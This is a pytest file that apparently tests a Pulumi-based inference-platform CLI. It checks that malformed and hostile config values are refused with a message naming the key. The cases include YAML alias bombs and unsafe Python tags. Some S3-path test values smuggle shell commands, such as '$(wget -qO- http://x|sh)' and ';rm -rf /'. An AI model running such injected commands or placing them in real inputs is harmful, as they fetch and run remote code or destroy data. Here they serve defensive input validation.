"""Hostile and mistaken input: every case is refused with exit 2 and a message naming the key,
never a crash, a hang or a silent 'clean'.

Three tables, each run through the code the CLI runs: stack files as text (the CLI's `main`
in-process: it returns before starting anything), config values (the stack file as the CLI reads
it, then the program under the mock engine, which raises the `pulumi.RunError` the CLI turns into
exit 2) and command-line inputs (`main` in-process). The cases that used to crash or hang run once
more through the real CLI, in parallel, under a memory limit and a timeout.
"""

from __future__ import annotations

import copy
import json
import os
import resource
import subprocess
import sys
from pathlib import Path
from typing import Any, Callable

import pulumi
import pytest
import yaml

from platform_config.models import EKS_NODES_PER_NODE_GROUP

from .helpers import ROOT, raw_stack, set_at

PROJECT = "inference-platform"
INT32_OVER = 2**31


def _doc(config: str) -> str:
    """A stack file whose `config:` block is `config` (indented by the caller's 2 spaces)."""
    return "config:\n" + config


def _laughs(levels: int) -> str:
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for level in range(1, levels):
        lines.append(f"a{level}: &a{level} [" + ", ".join([f"*a{level - 1}"] * 9) + "]")
    return "\n".join(lines) + f"\nconfig:\n  {PROJECT}:models: *a{levels - 1}\n"


def _deep_block(levels: int) -> str:
    text = "config:\n  inference-platform:profiles:\n"
    for level in range(levels):
        text += "  " * (level + 2) + f"k{level}:\n"
    return text + "  " * (levels + 2) + "end: 1\n"


# (id, stack file text or bytes, what the message must name)
TEXT_CASES: list[tuple[str, str | bytes, str]] = [
    ("file-is-a-list", "- config\n- models\n", "holds a list"),
    ("file-is-a-string", "just some text\n", "holds a string"),
    ("file-is-a-number", "42\n", "holds a number"),
    ("file-is-true", "true\n", "holds true/false"),
    ("config-is-a-list", "config:\n  - a\n", "config: must be a mapping"),
    ("config-is-a-string", "config: models\n", "config: must be a mapping"),
    ("integer-key", _doc("  1: x\n"), "key '1' is not a string"),
    ("integer-key-nested", _doc(f"  {PROJECT}:profiles:\n    5: {{}}\n"), f"{PROJECT}:profiles (line 3): key '5'"),
    ("boolean-key", _doc(f"  {PROJECT}:profiles:\n    true: {{}}\n"), f"{PROJECT}:profiles (line 3): key 'true'"),
    ("null-key", _doc(f"  {PROJECT}:traffic:\n    ~: 1\n"), f"{PROJECT}:traffic (line 3): key '~'"),
    ("float-key", _doc(f"  {PROJECT}:traffic:\n    1.5: 1\n"), f"{PROJECT}:traffic (line 3): key '1.5'"),
    ("list-key", _doc(f"  {PROJECT}:traffic:\n    ? [a, b]\n    : 1\n"), f"{PROJECT}:traffic (line 3): a key must be"),
    ("mapping-key", _doc(f"  {PROJECT}:traffic:\n    ? {{a: b}}\n    : 1\n"), f"{PROJECT}:traffic (line 3): a key must be"),
    ("not-utf8", b"config:\n  inference-platform:environment: \xff\xfeprod\n", "line 2: the file is not UTF-8"),
    ("latin1-name", "config:\n  inference-platform:environment: d\xe9v\n".encode("latin-1"), "line 2: the file is not UTF-8"),
    ("utf16", "config: {}\n".encode("utf-16"), "line 1: the file is not UTF-8"),
    ("recursive-alias-list", _doc(f"  {PROJECT}:models: &loop [*loop]\n"), f"{PROJECT}:models[0] (line 2): alias *loop"),
    ("recursive-alias-map", _doc(f"  {PROJECT}:traffic: &loop\n    tiers: *loop\n"), f"{PROJECT}:traffic.tiers (line 3)"),
    (
        "recursive-alias-deep",
        _doc(f"  {PROJECT}:models: &m\n    - versions:\n        - *m\n"),
        f"{PROJECT}:models[0].versions[0]",
    ),
    ("undefined-alias", _doc(f"  {PROJECT}:models: *nowhere\n"), f"{PROJECT}:models (line 2): alias *nowhere names no anchor"),
    ("deep-brackets", _doc(f"  {PROJECT}:models: " + "[" * 100_000 + "]" * 100_000 + "\n"), "nested more than 32"),
    ("deep-braces", _doc(f"  {PROJECT}:traffic: " + "{a: " * 5000 + "1" + "}" * 5000 + "\n"), f"{PROJECT}:traffic.a.a"),
    ("deep-block-mapping", _deep_block(40), f"{PROJECT}:profiles.k0.k1"),
    (
        "binary-tag",
        _doc(f"  {PROJECT}:environment: !!binary cHJvZHVjdGlvbg==\n"),
        f"{PROJECT}:environment (line 2): tag !!binary",
    ),
    ("set-tag", _doc(f"  {PROJECT}:tenants: !!set {{a, b}}\n"), f"{PROJECT}:tenants (line 2): tag !!set"),
    (
        "timestamp-tag",
        _doc(f"  {PROJECT}:environment: !!timestamp 2026-01-01\n"),
        f"{PROJECT}:environment (line 2): tag !!timestamp",
    ),
    ("omap-tag", _doc(f"  {PROJECT}:traffic: !!omap [a: 1]\n"), f"{PROJECT}:traffic (line 2): tag !!omap"),
    ("pairs-tag", _doc(f"  {PROJECT}:traffic: !!pairs [a: 1]\n"), f"{PROJECT}:traffic (line 2): tag !!pairs"),
    ("python-tag", _doc(f"  {PROJECT}:environment: !!python/name:os.system x\n"), f"{PROJECT}:environment (line 2)"),
    ("local-tag", _doc(f"  {PROJECT}:environment: !vault production\n"), f"{PROJECT}:environment (line 2): tag !vault"),
    ("local-tag-on-mapping", _doc(f"  {PROJECT}:traffic: !secret {{a: 1}}\n"), f"{PROJECT}:traffic (line 2): tag !secret"),
    (
        "duplicate-top-key",
        _doc(f"  {PROJECT}:environment: development\n  {PROJECT}:environment: production\n"),
        f"{PROJECT}:environment (line 3): duplicate key",
    ),
    (
        "duplicate-canary-weight",
        _doc(f"  {PROJECT}:models:\n    - release:\n        canary: v2\n        canaryWeight: 10\n        canaryWeight: 100\n"),
        f"{PROJECT}:models[0].release.canaryWeight (line 6): duplicate key",
    ),
    ("duplicate-config", "config: {}\nconfig: {}\n", "config (line 2): duplicate key 'config'"),
    (
        "duplicate-in-flow-mapping",
        _doc(f"  {PROJECT}:traffic: {{defaultTier: batch, defaultTier: premium}}\n"),
        f"{PROJECT}:traffic.defaultTier (line 2): duplicate key",
    ),
    ("duplicate-quoted-and-plain", _doc(f"  {PROJECT}:traffic: {{a: 1, 'a': 2}}\n"), f"{PROJECT}:traffic.a (line 2)"),
    ("billion-laughs", _laughs(9), "aliases expanded"),
    (
        "wide-aliases",
        "big: &big [" + ", ".join(["x"] * 5000) + "]\nconfig:\n  x: [" + ", ".join(["*big"] * 50) + "]\n",
        "x[18] (line 3)",
    ),
    ("merge-key-laughs", _laughs(5).replace("config:", "x: {<<: {y: *a4}}\nconfig:"), "x.<<.y"),
    ("huge-integer", _doc(f"  {PROJECT}:nodePools: [{{maxSize: {'9' * 5000}}}]\n"), f"{PROJECT}:nodePools[0].maxSize (line 2)"),
    ("huge-float", _doc(f"  {PROJECT}:capacity: {{overcommitRatio: 1.{'0' * 5000}}}\n"), f"{PROJECT}:capacity.overcommitRatio"),
    ("two-documents", "config: {}\n---\nconfig: {}\n", "more than one YAML document"),
    ("over-the-size-bound", "# " + "x" * (1 << 20) + "\nconfig: {}\n", "larger than 1048576 bytes"),
    ("unclosed-bracket", _doc(f"  {PROJECT}:models: [a, b\n"), "not valid YAML"),
    ("tab-indentation", "config:\n\tinference-platform:environment: production\n", "not valid YAML"),
    ("nul-byte", "config:\n  a: b\x00c\n", "not valid YAML"),
    ("merge-of-a-scalar", _doc("  x:\n    <<: 5\n"), "not valid YAML"),
    ("bad-indentation", "config:\n  a: 1\n b: 2\n", "not valid YAML"),
]


def _set(*path_and_value: Any) -> Callable[[dict[str, Any]], None]:
    """A mutation setting the value at a path (keys and list indexes) of a raw stack config."""
    *path, value = path_and_value

    def mutate(raw: dict[str, Any]) -> None:
        set_at(raw, tuple(path), value)

    return mutate


def _collide_servers(raw: dict[str, Any]) -> None:
    # team-a's `qwen-small` + `v1` and team-b's `qwen` + `small-v1`: both servers `qwen-small-v1`.
    raw["models"][2]["name"] = "qwen-small"
    other = raw["models"][3]
    other["name"] = "qwen"
    other["versions"][0]["name"] = "small-v1"
    other["release"]["stable"] = "small-v1"


def _collide_in_one_tenant(raw: dict[str, Any]) -> None:
    _collide_servers(raw)
    raw["models"][3]["tenant"] = "team-a"


def _mig(profiles: dict[str, Any]) -> Callable[[dict[str, Any]], None]:
    return _set("nodePools", 0, "sharing", "migGeometry", "devices", 2, "profiles", profiles)


M = ("models", 0)
DEV_M = ("models", 0)
POOL = ("nodePools", 0)
EKS = ("cluster", "eks")

# (id, stack, mutation of its project config, the key the message must name)
VALUE_CASES: list[tuple[str, str, Callable[[dict[str, Any]], None], str]] = [
    # Names with a trailing newline: Python's `$` matches before it.
    ("newline-model-name", "dev", _set(*DEV_M, "name", "qwen-small\n"), "models[0].name"),
    ("newline-tenant-name", "dev", _set("tenants", 0, "name", "dev-team\n"), "tenants[0].name"),
    ("newline-pool-name", "dev", _set(*POOL, "name", "l4-shared\n"), "nodePools[0].name"),
    ("newline-cluster-name", "dev", _set("cluster", "name", "dev\n"), "cluster.name"),
    ("newline-version-name", "dev", _set(*DEV_M, "versions", 0, "name", "v1\n"), "models[0].versions[0].name"),
    ("newline-stable", "dev", _set(*DEV_M, "release", "stable", "v1\n"), "models[0].release.stable"),
    ("newline-served-name", "dev", _set(*DEV_M, "servedModelName", "qwen\n"), "models[0].servedModelName"),
    (
        "newline-huggingface",
        "dev",
        _set(*DEV_M, "versions", 0, "source", "huggingface", "Qwen/Qwen\n"),
        "models[0].versions[0].source.huggingface",
    ),
    (
        "newline-revision",
        "dev",
        _set(*DEV_M, "versions", 0, "source", "revision", "7ae557604adf67be50417f59c2c2f167def9a775\n"),
        "models[0].versions[0].source.revision",
    ),
    ("newline-image", "dev", _set(*DEV_M, "versions", 0, "image", "vllm/vllm-openai:v0.18.0\n"), "models[0].versions[0].image"),
    (
        "newline-override-header",
        "prod",
        _set("models", 1, "release", "overrideHeader", "x-version\n"),
        "models[1].release.overrideHeader",
    ),
    (
        "newline-subnet",
        "prod",
        _set(*EKS, "subnetIds", ["subnet-0f1e2d3c4b5a60001\n", "subnet-0f1e2d3c4b5a60002"]),
        "cluster.eks.subnetIds[0]",
    ),
    (
        "newline-admin-arn",
        "prod",
        _set(*EKS, "adminPrincipalArns", ["arn:aws:iam::123456789012:role/admin\n"]),
        "cluster.eks.adminPrincipalArns[0]",
    ),
    ("newline-region", "prod", _set(*EKS, "region", "us-east-1\n"), "cluster.eks.region"),
    ("not-a-region", "prod", _set(*EKS, "region", "mars-1"), "cluster.eks.region"),
    (
        "newline-geometry-name",
        "prod",
        _set(*POOL, "sharing", "migGeometry", "name", "mix\n"),
        "nodePools[0].sharing.migGeometry.name",
    ),
    (
        "newline-prometheus-url",
        "dev",
        _set("monitoring", {"installPrometheusStack": False, "prometheusUrl": "http://p\n"}),
        "monitoring.prometheusUrl",
    ),
    (
        "newline-duration",
        "dev",
        _set(*DEV_M, "autoscaling", "kpa", "scaleDownDelay", "5m\n"),
        "models[0].autoscaling.kpa.scaleDownDelay",
    ),
    # int32 fields out of range.
    ("int32-max-replicas", "dev", _set(*DEV_M, "autoscaling", "maxReplicas", INT32_OVER), "models[0].autoscaling.maxReplicas"),
    ("int32-min-replicas", "prod", _set(*M, "autoscaling", "minReplicas", INT32_OVER), "models[0].autoscaling.minReplicas"),
    ("int32-pool-max-size", "dev", _set(*POOL, "maxSize", INT32_OVER), "nodePools[0].maxSize"),
    ("int32-pool-min-size", "dev", _set(*POOL, "minSize", INT32_OVER), "nodePools[0].minSize"),
    (
        "int32-system-max-size",
        "prod",
        _set(*EKS, "systemNodeGroup", "maxSize", INT32_OVER),
        "cluster.eks.systemNodeGroup.maxSize",
    ),
    (
        "int32-queue-depth",
        "prod",
        _set(*M, "autoscaling", "hpa", "queueDepthTarget", INT32_OVER),
        "models[0].autoscaling.hpa.queueDepthTarget",
    ),
    (
        "int32-scale-up-pods",
        "prod",
        _set(*M, "autoscaling", "hpa", "scaleUpMaxPods", INT32_OVER),
        "models[0].autoscaling.hpa.scaleUpMaxPods",
    ),
    (
        "int32-target-concurrency",
        "dev",
        _set(*DEV_M, "autoscaling", "kpa", "targetConcurrency", INT32_OVER),
        "models[0].autoscaling.kpa.targetConcurrency",
    ),
    (
        "int32-initial-scale",
        "dev",
        _set(*DEV_M, "autoscaling", "kpa", "initialScale", INT32_OVER),
        "models[0].autoscaling.kpa.initialScale",
    ),
    ("int32-gpus", "dev", _set(*DEV_M, "resources", "gpus", INT32_OVER), "models[0].resources.gpus"),
    ("int32-tenant-pods", "dev", _set("tenants", 0, "quota", "pods", INT32_OVER), "tenants[0].quota.pods"),
    (
        "int32-request-timeout",
        "dev",
        _set("profiles", {"summarization": {"requestTimeoutSeconds": INT32_OVER}}),
        "profiles.summarization.requestTimeoutSeconds",
    ),
    ("huge-max-size", "dev", _set(*POOL, "maxSize", 10**30), "nodePools[0].maxSize"),
    ("negative-huge-min-size", "dev", _set(*POOL, "minSize", -(10**30)), "nodePools[0].minSize"),
    # Durations beyond protobuf's Duration, or not durations at all.
    (
        "duration-over-protobuf",
        "dev",
        _set(
            "traffic",
            {
                "tiers": {
                    "batch": {
                        "timeout": "315576000001s",
                        "maxPendingRequests": 1,
                        "maxRequests": 1,
                        "retryAttempts": 0,
                        "vllmPriority": 2,
                    }
                }
            },
        ),
        "traffic.tiers.batch.timeout",
    ),
    (
        "duration-hours-over-protobuf",
        "dev",
        _set(
            "traffic",
            {
                "tiers": {
                    "batch": {
                        "timeout": "99999999h",
                        "maxPendingRequests": 1,
                        "maxRequests": 1,
                        "retryAttempts": 0,
                        "vllmPriority": 2,
                    }
                }
            },
        ),
        "traffic.tiers.batch.timeout",
    ),
    (
        "duration-many-digits",
        "dev",
        _set(*DEV_M, "autoscaling", "kpa", "window", "9" * 5000 + "s"),
        "models[0].autoscaling.kpa.window",
    ),
    ("duration-exponent", "dev", _set(*DEV_M, "autoscaling", "kpa", "window", "1e3s"), "models[0].autoscaling.kpa.window"),
    (
        "duration-negative",
        "dev",
        _set(*DEV_M, "autoscaling", "kpa", "scaleDownDelay", "-5m"),
        "models[0].autoscaling.kpa.scaleDownDelay",
    ),
    (
        "duration-a-number",
        "dev",
        _set(*DEV_M, "autoscaling", "kpa", "scaleDownDelay", 300),
        "models[0].autoscaling.kpa.scaleDownDelay",
    ),
    # Knative's containerConcurrency limit.
    (
        "container-concurrency-1001",
        "prod",
        _set("models", 1, "autoscaling", "kpa", "containerConcurrency", 1001),
        "models[1].autoscaling.kpa.containerConcurrency",
    ),
    (
        "profile-concurrency-1001",
        "dev",
        _set("profiles", {"summarization": {"concurrencyPerReplica": 1001}}),
        "profiles.summarization.concurrencyPerReplica",
    ),
    # No memory or CPU on a GPU pod.
    ("zero-cpu", "dev", _set(*DEV_M, "resources", "cpu", "0"), "models[0].resources.cpu"),
    ("zero-millicpu", "dev", _set(*DEV_M, "resources", "cpu", "0m"), "models[0].resources.cpu"),
    ("zero-memory", "dev", _set(*DEV_M, "resources", "memory", "0Gi"), "models[0].resources.memory"),
    ("zero-cache", "dev", _set(*DEV_M, "resources", "cacheSize", "0"), "models[0].resources.cacheSize"),
    ("memory-trailing-newline", "dev", _set(*DEV_M, "resources", "memory", "32Gi\n"), "models[0].resources.memory"),
    ("cpu-a-number", "dev", _set(*DEV_M, "resources", "cpu", 2), "models[0].resources.cpu"),
    # Node labels the API server would refuse.
    ("label-key-space", "dev", _set(*POOL, "labels", {"team name": "a"}), "nodePools[0].labels.team name"),
    ("label-key-leading-dash", "dev", _set(*POOL, "labels", {"-team": "a"}), "nodePools[0].labels.-team"),
    (
        "label-key-uppercase-prefix",
        "dev",
        _set(*POOL, "labels", {"Example.com/team": "a"}),
        'nodePools[0].labels["Example.com/team"]',
    ),
    ("label-key-two-slashes", "dev", _set(*POOL, "labels", {"a/b/c": "a"}), "nodePools[0].labels.a/b/c"),
    ("label-key-empty-prefix", "dev", _set(*POOL, "labels", {"/team": "a"}), "nodePools[0].labels./team"),
    ("label-key-64-chars", "dev", _set(*POOL, "labels", {"k" * 64: "a"}), "nodePools[0].labels." + "k" * 64),
    ("label-key-newline", "dev", _set(*POOL, "labels", {"team\n": "a"}), "nodePools[0].labels.team\n"),
    (
        "label-key-node-role",
        "dev",
        _set(*POOL, "labels", {"node-role.kubernetes.io/gpu": ""}),
        'nodePools[0].labels["node-role.kubernetes.io/gpu"]',
    ),
    ("label-key-k8s-io", "dev", _set(*POOL, "labels", {"k8s.io/team": "a"}), 'nodePools[0].labels["k8s.io/team"]'),
    (
        "label-key-node-restriction",
        "dev",
        _set(*POOL, "labels", {"node-restriction.kubernetes.io/x": "a"}),
        'nodePools[0].labels["node-restriction.kubernetes.io/x"]',
    ),
    ("label-value-64-chars", "dev", _set(*POOL, "labels", {"team": "v" * 64}), "nodePools[0].labels.team"),
    ("label-value-space", "dev", _set(*POOL, "labels", {"team": "a b"}), "nodePools[0].labels.team"),
    ("label-value-trailing-dot", "dev", _set(*POOL, "labels", {"team": "a."}), "nodePools[0].labels.team"),
    ("label-value-newline", "dev", _set(*POOL, "labels", {"team": "a\n"}), "nodePools[0].labels.team"),
    ("label-value-a-number", "dev", _set(*POOL, "labels", {"team": 5}), "nodePools[0].labels.team"),
    # CIDRs for the public API endpoint.
    ("cidr-prefix-33", "prod", _set(*EKS, "publicAccessCidrs", ["10.0.0.0/33"]), "cluster.eks.publicAccessCidrs[0]"),
    ("cidr-host-bits", "prod", _set(*EKS, "publicAccessCidrs", ["10.0.0.1/24"]), "cluster.eks.publicAccessCidrs[0]"),
    ("cidr-not-an-address", "prod", _set(*EKS, "publicAccessCidrs", ["office"]), "cluster.eks.publicAccessCidrs[0]"),
    ("cidr-no-prefix", "prod", _set(*EKS, "publicAccessCidrs", ["203.0.113.7"]), "cluster.eks.publicAccessCidrs[0]"),
    ("cidr-ipv6", "prod", _set(*EKS, "publicAccessCidrs", ["::/0"]), "cluster.eks.publicAccessCidrs[0]"),
    ("cidr-newline", "prod", _set(*EKS, "publicAccessCidrs", ["10.0.0.0/8", "10.0.0.0/8\n"]), "cluster.eks.publicAccessCidrs[1]"),
    # MIG counts: 10^12 slices used to build a list of 10^12 profiles.
    ("mig-count-10e12", "prod", _mig({"1g.10gb": 10**12}), 'nodePools[0].sharing.migGeometry.devices[2].profiles["1g.10gb"]'),
    ("mig-count-8", "prod", _mig({"1g.10gb": 8}), 'nodePools[0].sharing.migGeometry.devices[2].profiles["1g.10gb"]'),
    ("mig-count-zero", "prod", _mig({"1g.10gb": 0}), 'nodePools[0].sharing.migGeometry.devices[2].profiles["1g.10gb"]'),
    ("mig-count-a-string", "prod", _mig({"1g.10gb": "7"}), 'nodePools[0].sharing.migGeometry.devices[2].profiles["1g.10gb"]'),
    # Wrong shapes where a release names its versions.
    ("stable-a-list", "dev", _set(*DEV_M, "release", "stable", ["v1"]), "models[0].release.stable"),
    (
        "stable-a-list-with-weights",
        "prod",
        _set("models", 1, "release", {"stable": ["v1"], "canary": "v2", "weights": {"v1": 90, "v2": 10}}),
        "models[1].release.stable",
    ),
    (
        "canary-a-mapping-with-weights",
        "prod",
        _set("models", 1, "release", {"stable": "v1", "canary": {"v": 2}, "weights": {"v1": 90, "v2": 10}}),
        "models[1].release.canary",
    ),
    (
        "weights-a-list",
        "prod",
        _set("models", 1, "release", {"stable": "v1", "canary": "v2", "weights": [90, 10]}),
        "models[1].release.weights",
    ),
    (
        "canary-weight-a-mapping",
        "prod",
        _set("models", 1, "release", "canaryWeight", {"v2": 10}),
        "models[1].release.canaryWeight",
    ),
    ("canary-weight-a-boolean", "prod", _set("models", 1, "release", "canaryWeight", True), "models[1].release.canaryWeight"),
    # Names that collide.
    ("server-names-collide-across-tenants", "prod", _collide_servers, "models[3].versions[0].name"),
    ("server-names-collide-in-a-tenant", "prod", _collide_in_one_tenant, "models[3].versions[0].name"),
    ("duplicate-model-names", "prod", _set("models", 2, "name", "llama-70b"), "models[2].name"),
    # Whole blocks of the wrong type.
    ("models-a-mapping", "dev", _set("models", {"qwen": {}}), f"{PROJECT}:models"),
    ("node-pools-a-string", "dev", _set("nodePools", "l4"), f"{PROJECT}:nodePools"),
    ("tenants-empty", "dev", _set("tenants", []), f"{PROJECT}:tenants"),
    ("environment-a-list", "dev", _set("environment", ["production"]), f"{PROJECT}:environment"),
    ("cluster-null", "dev", _set("cluster", None), f"{PROJECT}:cluster"),
    ("overcommit-nan", "dev", _set("capacity", {"overcommitRatio": float("nan")}), "capacity.overcommitRatio"),
    ("overcommit-infinite", "dev", _set("capacity", {"overcommitRatio": float("inf")}), "capacity.overcommitRatio"),
    ("replicas-a-boolean", "dev", _set(*DEV_M, "autoscaling", "minReplicas", True), "models[0].autoscaling.minReplicas"),
    # Headers under a prefix the gateway strips from clients would never arrive.
    (
        "override-header-a-picker-header",
        "dev",
        _set(*DEV_M, "release", "overrideHeader", "x-llm-d-version"),
        "models[0].release.overrideHeader",
    ),
    ("user-key-a-vllm-header", "dev", _set(*DEV_M, "release", "userKeyHeader", "x-vllm-user"), "models[0].release.userKeyHeader"),
    ("tier-header-a-gateway-header", "dev", _set("traffic", "tierHeader", "x-gateway-tier"), "traffic.tierHeader"),
    # Header names that mean something else on the path: hop-by-hop, framing, credentials, the
    # proxies' own; and one setting's header taken by another.
    *(
        (f"header-{name}", "dev", _set(*path, name), key)
        for name, path, key in (
            ("connection", ("traffic", "tierHeader"), "traffic.tierHeader"),
            ("transfer-encoding", ("traffic", "bucketHeader"), "traffic.bucketHeader"),
            ("content-length", ("traffic", "modelHeader"), "traffic.modelHeader"),
            ("host", (*DEV_M, "release", "overrideHeader"), "models[0].release.overrideHeader"),
            ("authorization", (*DEV_M, "release", "userKeyHeader"), "models[0].release.userKeyHeader"),
            ("cookie", (*DEV_M, "release", "overrideHeader"), "models[0].release.overrideHeader"),
            ("x-envoy-original-path", ("traffic", "tierHeader"), "traffic.tierHeader"),
            ("x-forwarded-for", (*DEV_M, "release", "userKeyHeader"), "models[0].release.userKeyHeader"),
            ("x-request-id", ("traffic", "bucketHeader"), "traffic.bucketHeader"),
            ("x" * 65, ("traffic", "modelHeader"), "traffic.modelHeader"),
        )
    ),
    # A credential anywhere but the secret keys (it would reach resource inputs and the report).
    *(
        (f"credential-{kind}", "prod", _set(*path, value), key)
        for kind, path, value, key in (
            ("aws-key-in-a-tenant-group", ("tenants", 0, "groups", 0), "AKIA" + "Q" * 16, "tenants[0].groups[0]"),
            ("github-token-as-a-header", ("traffic", "tierHeader"), "ghp_" + "a1" * 18, "traffic.tierHeader"),
            (
                "hf-token-in-a-revision",
                ("models", 0, "versions", 0, "source", "revision"),
                "hf_" + "b2" * 12,
                "models[0].versions[0].source.revision",
            ),
            (
                "private-key-in-jwks",
                ("traffic", "authentication", "jwksUri"),
                "-----BEGIN RSA PRIVATE KEY-----",
                "traffic.authentication.jwksUri",
            ),
        )
    ),  # fmt: skip
    # A group bound to two tenants' Roles would see and restart both tenants' workloads.
    (
        "group-of-two-tenants",
        "prod",
        lambda raw: raw["tenants"][0].update(groups=["ml-platform"]) or raw["tenants"][1].update(groups=["ml-platform"]),
        "tenants[1].groups[0]",
    ),
    (
        "override-header-is-the-user-key",
        "dev",
        _set(*DEV_M, "release", "overrideHeader", "x-user-id"),
        "models[0].release.overrideHeader",
    ),
    # S3 locations go into the batch jobs' shell scripts and into IAM resources: no shell syntax.
    *(
        (f"s3-{where}-{name}", "prod", _set(*path, value), key)
        for where, path, key in (
            ("batch-output", ("batchJobs", 0, "output"), "batchJobs[0].output"),
            ("batch-input", ("batchJobs", 0, "input", "s3Uri"), "batchJobs[0].input.s3Uri"),
            ("adapter-source", ("models", 1, "adapters", 1, "source", "s3Uri"), "models[1].adapters[1].source.s3Uri"),
        )
        for name, value in (
            ("command-substitution", "s3://team-b-batch/out/$(wget -qO- http://x|sh)"),
            ("backticks", "s3://team-b-batch/out/`id`"),
            ("semicolon", "s3://team-b-batch/out;rm -rf /"),
            ("space", "s3://team-b-batch/out put"),
            ("glob", "s3://team-b-batch/out/*"),
            ("quote", "s3://team-b-batch/out'x"),
            ("newline", "s3://team-b-batch/out\nx"),
            ("non-ascii", "s3://team-b-batch/\u00e9t\u00e9"),
            ("too-long", "s3://team-b-batch/" + "a" * 1100),
        )
    ),
    # Data belongs to its tenant: team-b's batch job overwriting the weight mirror's copy of the shared 70B, or
    # reading team-a's data; a tenant's model reading another tenant's adapters; prefixes that overlap or claim the
    # platform's mirror bucket.
    (
        "batch-output-into-the-mirror",
        "prod",
        _set("batchJobs", 0, "output", "s3://inference-prod-model-weights/serving/x"),
        "batchJobs[0].output",
    ),
    (
        "batch-input-of-another-tenant",
        "prod",
        _set("batchJobs", 0, "input", "s3Uri", "s3://team-a-data/tickets"),
        "batchJobs[0].input.s3Uri",
    ),
    (
        "adapter-of-another-tenant",
        "prod",
        _set("models", 1, "adapters", 1, "source", "s3Uri", "s3://team-b-batch/adapters/sql"),
        "models[1].adapters[1].source.s3Uri",
    ),
    ("bucket-prefix-of-a-sibling", "prod", _set("batchJobs", 0, "output", "s3://team-b-batch-other/out"), "batchJobs[0].output"),
    (
        "tenant-claims-the-mirror",
        "prod",
        _set("tenants", 1, "s3Prefixes", ["s3://inference-prod-model-weights"]),
        "tenants[1].s3Prefixes[0]",
    ),
    # Sizes EKS refuses (its service quotas): nodes per managed node group, node groups, public endpoint CIDRs.
    ("pool-beyond-the-node-group-quota", "prod", _set(*POOL, "maxSize", 451), "nodePools[0].maxSize"),
    (
        "system-nodes-beyond-the-quota",
        "prod",
        _set(*EKS, "systemNodeGroup", {"maxSize": 1000}),
        "cluster.eks.systemNodeGroup.maxSize",
    ),
    (
        "thirty-gpu-pools",
        "prod",
        lambda raw: raw.update(nodePools=[{**raw["nodePools"][0], "name": f"pool-{i}"} for i in range(30)]),
        "nodePools",
    ),
    (
        "forty-one-public-cidrs",
        "prod",
        _set(*EKS, "publicAccessCidrs", [f"198.51.{i}.0/24" for i in range(41)]),
        "cluster.eks.publicAccessCidrs",
    ),
    ("acknowledge-an-unknown-weakening", "prod", _set("acknowledge", ["remove-everything"]), "acknowledge[0]"),
    ("acknowledge-a-removal-of-no-name", "prod", _set("acknowledge", ["remove-model:"]), "acknowledge[0]"),
    ("acknowledge-a-move-of-no-name", "prod", _set("acknowledge", ["move-model"]), "acknowledge[0]"),
    # What would take every server of a model or a tenant without removing it (platform_config/guard_rails.py): each
    # refused by the config, so no guard rail needs to see it.
    ("no-replica-at-most", "prod", _set("models", 2, "autoscaling", "maxReplicas", 0), "models[2].autoscaling.maxReplicas"),
    (
        "production-scaled-to-zero",
        "prod",
        _set("models", 3, "autoscaling", "minReplicas", 0),
        "models[3].autoscaling.minReplicas",
    ),
    ("tenant-quota-of-no-gpu", "prod", _set("tenants", 0, "quota", "gpu", 0), "tenants[0].quota.gpu"),
    # Weakenings of authentication the config refuses outright.
    (
        "issuer-over-plain-http",
        "prod",
        _set(
            "traffic",
            "authentication",
            {
                "issuer": "http://login.inference.example.com",
                "audiences": ["inference-api"],
                "jwksUri": "https://login.inference.example.com/.well-known/jwks.json",
            },
        ),
        "traffic.authentication.issuer",
    ),
    (
        "any-principal-may-force-a-version",
        "prod",
        _set("traffic", "authentication", "versionOverridePrincipals", ["https://login.inference.example.com/*"]),
        "traffic.authentication.versionOverridePrincipals",
    ),
    # Reported at the later of the two claims (team-b), naming the earlier one.
    (
        "tenant-claims-anothers-data",
        "prod",
        _set("tenants", 1, "s3Prefixes", ["s3://team-b-batch/outputs"]),
        "tenants[2].s3Prefixes[0]",
    ),
    # Hugging Face repository ids by the Hub's rule, in ASCII: prod has a weight mirror, whose copy of a revision is
    # named after the repository (this crashed the preview with the mirror's pydantic error).
    *(
        (
            f"huggingface-{name}",
            "prod",
            _set(*M, "versions", 0, "source", "huggingface", value),
            "models[0].versions[0].source.huggingface",
        )
        for name, value in (
            ("non-ascii", "meta-llama/Llama-3.1-70B-Instruct\u00e9"),
            ("5000-characters", "meta-llama/" + "a" * 5000),
            ("double-dash", "meta-llama/Llama--3"),
            ("dot-git", "meta-llama/Llama.git"),
            ("three-parts", "a/b/c"),
        )
    ),
    (
        "batch-input-huggingface-non-ascii",
        "prod",
        _set("batchJobs", 0, "input", {"huggingface": "team-b/tick\u00e9ts", "revision": "a" * 40, "files": ["a.jsonl"]}),
        "batchJobs[0].input.huggingface",
    ),
    # S3 revisions are version folders: no glob (an IAM resource `.../*/`), quote, command substitution, non-ASCII,
    # or unbounded length, on model versions, adapters and batch inputs alike.
    *(
        (f"s3-revision-{name}", "prod", _set(*path, value), key)
        for path, key in (
            (("models", 1, "adapters", 1, "source", "revision"), "models[1].adapters[1].source.revision"),
            (
                ("models", 1, "adapters", 0, "versions", 1, "source", "revision"),
                "models[1].adapters[0].versions[1].source.revision",
            ),
            (("batchJobs", 0, "input", "revision"), "batchJobs[0].input.revision"),
        )
        for name, value in (
            ("glob", "*"),
            ("quote-and-substitution", "x'$(id)"),
            ("non-ascii", "caf\u00e9"),
            ("5000-characters", "a" * 5000),
            ("two-segments", "2026/11"),
        )
    ),
    # Other strings that reach manifests: a group (a RoleBinding subject), a step override's reason (an annotation).
    ("tenant-group-non-ascii", "prod", _set("tenants", 1, "groups", ["\u00e9quipe-a"]), "tenants[1].groups[0]"),
    (
        "step-override-reason-newline",
        "prod",
        _set("models", 1, "release", "stepOverride", {"reason": "incident 42\nrollout"}),
        "models[1].release.stepOverride.reason",
    ),
    # Sizes past what Kubernetes admits: an Indexed Job's completions with backoffLimitPerIndex, and its parallelism.
    (
        "batch-shards-past-100000",
        "prod",
        lambda raw: raw["batchJobs"][0].update(lines=INT32_OVER - 1, shardLines=1, chunkLines=1),
        "batchJobs[0].lines",
    ),
    ("batch-parallelism-past-100000", "prod", _set("batchJobs", 0, "parallelism", 100_001), "batchJobs[0].parallelism"),
    ("cpu-offload-infinite", "dev", _set(*DEV_M, "server", "cpuOffloadGb", float("inf")), "models[0].server.cpuOffloadGb"),
]


def _policy_config(text: str | bytes) -> Callable[[Path], list[str]]:
    def arguments(tmp_path: Path) -> list[str]:
        path = tmp_path / "policy.json"
